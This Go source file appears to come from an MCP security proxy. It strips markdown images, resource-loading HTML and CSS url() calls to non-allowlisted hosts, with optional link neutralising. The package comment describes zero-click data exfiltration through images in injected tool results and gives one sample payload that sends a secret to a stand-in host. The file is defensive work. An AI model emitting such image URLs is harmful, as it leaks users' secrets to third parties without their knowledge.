// Package links removes what makes a client fetch a URL on its own from
// text an MCP server sends: markdown images (inline, reference-style) and
// HTML that loads a resource (<img src>, srcset, <source>, <video poster>,
// <link href>, CSS url() in a style attribute or a <style> element, ...)
// whose host is not allowlisted and that is not a badge of a badge
// service (badge.go says why a badge carries nothing out). The client
// renders the markdown and
// fetches the image, so an injected result can carry data out in the URL
// (![x](https://evil.example/?q=SECRET)) with no click. Links are kept
// unless the filter neutralises them (opt-in): a click is needed, but the
// URL may still carry data.
//
// Markdown is read by a CommonMark parser (goldmark), HTML by the HTML5
// tokenizer of golang.org/x/net/html; whatever was removed, the result is
// parsed again, and a string that still holds a forbidden image after a
// few rounds is replaced whole, so a parser differential fails closed.
package links

import (
	"sort"
	"strings"
	"unsafe"

	"github.com/mcpguard/mcpguard/rules/rawjson"
)

// Options configures a Filter.
type Options struct {
	// KeepImages leaves images alone.
	KeepImages bool
	// AllowImageHosts are hosts images may load from ("*.example.com"
	// for subdomains).
	AllowImageHosts []string
	// NeutraliseLinks removes markdown links and <a href> to hosts not in
	// AllowLinkHosts, keeping their text.
	NeutraliseLinks bool
	AllowLinkHosts  []string
}

// Filter applies Options. It is immutable and safe for concurrent use.
type Filter struct {
	images, links bool
	imageHosts    hostSet
	linkHosts     hostSet
}

// New makes a Filter; nil when it has nothing to do.
func New(o Options) *Filter {
	if o.KeepImages && !o.NeutraliseLinks {
		return nil
	}
	return &Filter{images: !o.KeepImages, links: o.NeutraliseLinks,
		imageHosts: newHostSet(o.AllowImageHosts), linkHosts: newHostSet(o.AllowLinkHosts)}
}

// Removal is one thing a Filter removed: "image" or "link", and the host.
type Removal struct {
	Kind string
	Host string
}

// edit replaces s[start:end].
type edit struct {
	start, end int
	with       string
}

// ImageStandIn and LinkStandIn are the text that replaces what was removed.
func ImageStandIn(host string) string { return "[image removed: host " + host + "]" }
func LinkStandIn(host string) string  { return "[link removed: host " + host + "]" }

// WholeStandIn replaces a string whose images could not be removed one by
// one.
const WholeStandIn = "[content removed: it holds an image or link mcpguard could not remove safely]"

const maxRounds = 3

// Apply returns s without the images (and, when neutralising, links) to
// hosts not allowed, and what it removed. Applying it to its own output
// changes nothing.
func (f *Filter) Apply(s string) (string, []Removal) {
	if f == nil || !f.mayHold(s) {
		return s, nil
	}
	if mayHoldMarkdown(s, 0, len(s), f.links) && tooCostly(s) {
		return WholeStandIn, []Removal{{Kind: "content", Host: "(several)"}}
	}
	var removed []Removal
	for round := 0; round < maxRounds; round++ {
		edits, rs := f.findAll(s)
		if len(edits) == 0 {
			return s, removed
		}
		removed = append(removed, rs...)
		s = applyEdits(s, edits)
	}
	if edits, _ := f.findAll(s); len(edits) > 0 {
		return WholeStandIn, append(removed, Removal{Kind: "content", Host: "(several)"})
	}
	return s, removed
}

func (f *Filter) findAll(s string) ([]edit, []Removal) {
	var edits []edit
	var rs []Removal
	if mayHoldHTML(s, 0, len(s), f.links) {
		e, r := f.html(s)
		edits, rs = append(edits, e...), append(rs, r...)
	}
	if mayHoldMarkdown(s, 0, len(s), f.links) {
		e, r := f.markdown(s)
		edits, rs = append(edits, e...), append(rs, r...)
	}
	return edits, rs
}

// applyEdits applies non-overlapping edits; of overlapping ones the one
// that starts first (the longer, on a tie) wins, the others wait for the
// next round.
func applyEdits(s string, edits []edit) string {
	sort.SliceStable(edits, func(i, j int) bool {
		if edits[i].start != edits[j].start {
			return edits[i].start < edits[j].start
		}
		return edits[i].end > edits[j].end
	})
	var b strings.Builder
	at := 0
	for _, e := range edits {
		if e.start < at {
			continue
		}
		b.WriteString(s[at:e.start])
		b.WriteString(e.with)
		at = e.end
	}
	b.WriteString(s[at:])
	return b.String()
}

// mayHold is the cheap test: text with none of the markers of an image,
// a resource-loading tag or (when neutralising) a link needs no parsing.
func (f *Filter) mayHold(s string) bool {
	return mayHoldIn(s, 0, len(s), f.links)
}

// mayHoldIn reports whether one of mayHold's markers starts in s[from:to];
// it reads s[from-MarkReach:to+MarkReach] at most, so the markers that
// start in parts of a text that cover it are those of the whole text.
func mayHoldIn(s string, from, to int, links bool) bool {
	return mayHoldMarkdown(s, from, to, links) || mayHoldHTML(s, from, to, links)
}

// MarkReach bounds what decides whether a marker starts at a byte: the
// MarkReach bytes before it (a CSS escape before a "(") and after it (a
// tag's name after a "<", and the byte that ends it).
const MarkReach = 16

// ImageMarked reports whether a marker that RawClean looks for in a
// filter that keeps links (of a markdown image, a tag that loads
// something, a CSS url()) starts in head[from:to]. head may be the start
// of a longer text, as it arrives: the verdict is the whole text's when
// to+MarkReach <= len(head) (or head is the whole text).
func ImageMarked(head string, from, to int) bool {
	return mayHoldIn(head, from, to, false)
}

// mayHoldMarkdown reports whether a markdown image, or with links, a link
// or an autolink, may start in s[from:to].
func mayHoldMarkdown(s string, from, to int, links bool) bool {
	pair := s[from:min(len(s), to+1)] // a pair that starts before to
	// strings.Contains(pair, "![") on the byte search the other scans
	// use: a general substring search is more code to fetch per reply.
	for i := strings.IndexByte(pair, '!'); i >= 0 && i+1 < len(pair); {
		if pair[i+1] == '[' {
			return true // inline and reference images alike start with ![
		}
		j := strings.IndexByte(pair[i+1:], '!')
		if j < 0 {
			break
		}
		i += j + 1
	}
	return links && (strings.Contains(pair, "](") || strings.Contains(pair, "][") || strings.Contains(s[from:to], "]") || strings.Contains(s[from:to], ":"))
}

// tagMarkers are the tags that load something (lower case; matched
// ignoring case, after "<" and before a space, "/" or ">"). <svg> and
// <picture> load nothing themselves; their <image>, <use>, <source> and
// <img> are listed.
var tagMarkers = []string{"img", "image", "source", "input", "video", "audio", "object", "embed",
	"iframe", "frame", "link", "script", "style", "track", "use", "feimage", "body", "table",
	"td", "th"}

// mayHoldHTML reports whether a tag that loads something, a CSS url(), or
// (links) an <a> tag may start in s[from:to].
func mayHoldHTML(s string, from, to int, links bool) bool {
	for i := from; ; {
		j := strings.IndexByte(s[i:to], '<')
		if j < 0 {
			break
		}
		i += j + 1
		if isTagMarker(s[i:], links) {
			return true
		}
	}
	for i := from; ; {
		j := strings.IndexByte(s[i:to], '(')
		if j < 0 {
			return false
		}
		i += j
		if i >= 3 && cssFunction(s[i-3:i]) {
			return true // url( and image-set(
		}
		if cssEscapeIn(s[max(0, i-cssEscapeReach):i]) {
			return true // CSS escapes (\75 rl) may spell url
		}
		i++
	}
}

// cssFunction reports whether the three bytes before a "(" end a CSS
// function that loads something: url or (image-)set, in any case. Only
// ASCII letters spell either in three bytes, so the last one decides
// which to compare.
func cssFunction(w string) bool {
	switch w[2] | 0x20 {
	case 'l':
		return strings.EqualFold(w, "url")
	case 't':
		return strings.EqualFold(w, "set")
	}
	return false
}

// cssEscapeReach is how far before a "(" a CSS escape may start that
// spells a letter of url: in a raw JSON string, its backslash escaped
// (2 bytes), six hex digits, a CRLF escaped (\r\n, 4 bytes) and the
// letters "rl" after it.
const cssEscapeReach = 2 + 6 + 4 + 2

// cssEscapeIn reports whether s holds a CSS hex escape: a backslash and a
// hex digit (a JSON escape such as \n is not one).
func cssEscapeIn(s string) bool {
	for i := strings.IndexByte(s, '\\'); i >= 0 && i+1 < len(s); i++ {
		if s[i] == '\\' && rawjson.IsHex(s[i+1]) {
			return true
		}
	}
	return false
}

// tagFirst marks the (lower-case) first letters of tagMarkers and of a.
var tagFirst = func() (t [256]bool) {
	for _, m := range tagMarkers {
		t[m[0]] = true
	}
	t['a'] = true
	return t
}()

// isTagMarker reports whether rest (what follows a "<") starts with the
// name of a tag that loads something, or with links, of <a>.
func isTagMarker(rest string, links bool) bool {
	if rest == "" || !tagFirst[rest[0]|0x20] {
		return false // most '<' in text and code: not a tag that loads
	}
	if links && (rest[0] == 'a' || rest[0] == 'A') && tagNameEnds(rest[1:]) {
		return true
	}
	for _, m := range tagMarkers {
		if len(rest) >= len(m) && strings.EqualFold(rest[:len(m)], m) && tagNameEnds(rest[len(m):]) {
			return true
		}
	}
	return false
}

// tagNameEnds reports whether a tag name ends where rest starts: at a
// space, "/", ">" or the end (the HTML tokenizer's reading).
func tagNameEnds(rest string) bool {
	if rest == "" {
		return true
	}
	switch rest[0] {
	case ' ', '\t', '\n', '\f', '\r', '/', '>', '\\': // a backslash: a JSON escape such as \n in a raw message
		return true
	}
	return false
}

// RawClean reports whether no string of a JSON text (a whole message, as
// validated by the strict parser) can hold what the filter removes,
// looking at the raw bytes: strings that spell ASCII with \u escapes are
// decoded first. False means: decode every string and Apply.
func (f *Filter) RawClean(raw []byte) bool {
	if f == nil || len(raw) == 0 {
		return true
	}
	return f.RawCleanEscapes(raw, rawjson.ScanEscapes(raw))
}

// RawCleanEscapes is RawClean for a caller that has read the escapes of
// raw already (esc must be rawjson.ScanEscapes of raw).
func (f *Filter) RawCleanEscapes(raw []byte, esc rawjson.Escapes) bool {
	return f.RawCleanAfter(raw, esc, 0)
}

// RawCleanAfter is RawCleanEscapes for raw in whose first head bytes no
// marker starts that ImageMarked finds (as it found on raw's head while
// the rest arrived). A filter that neutralises links looks for more, and
// reads all of raw.
func (f *Filter) RawCleanAfter(raw []byte, esc rawjson.Escapes, head int) bool {
	if f == nil || len(raw) == 0 {
		return true
	}
	if f.links {
		head = 0
	}
	s := unsafe.String(&raw[0], len(raw))
	if mayHoldIn(s, head, len(s), f.links) {
		return false
	}
	clean := true
	if esc.ASCII {
		rawjson.EachASCIIEscape(s, func(lo, hi int) bool {
			clean = !f.mayHold(rawjson.Unescape(s[lo:hi]))
			return clean
		})
	}
	return clean
}

// URLStandIn replaces the URL of an icon or a resource link that the
// filter removes: it fetches and opens nothing, and stays a valid URI so
// the message keeps its shape.
const URLStandIn = "data:,"

// RemovesImages reports whether the filter removes images (ImageURL can
// refuse), NeutralisesLinks whether it removes links (LinkURL can).
func (f *Filter) RemovesImages() bool    { return f != nil && f.images }
func (f *Filter) NeutralisesLinks() bool { return f != nil && f.links }

// ImageURL judges a URL the client fetches as an image on its own, with
// no markup around it (an MCP icon's src): removed (ok false) when images
// are removed and its host is not allowed. host is for the log.
func (f *Filter) ImageURL(u string) (host string, ok bool) {
	if f == nil || !f.images {
		return "", true
	}
	t, ok := f.allowsImage(u)
	return shownHost(t), ok
}

// LinkURL judges a URL the client may open (a resource_link's uri):
// removed (ok false) when links are neutralised and its host is not
// allowed. A URL that names no host (file:///..., a server's own scheme)
// is the server's resource, read through resources/read: kept.
func (f *Filter) LinkURL(u string) (host string, ok bool) {
	if f == nil || !f.links {
		return "", true
	}
	t := targetOf(u)
	return shownHost(t), t.host == "" || f.linkHosts.allows(t)
}
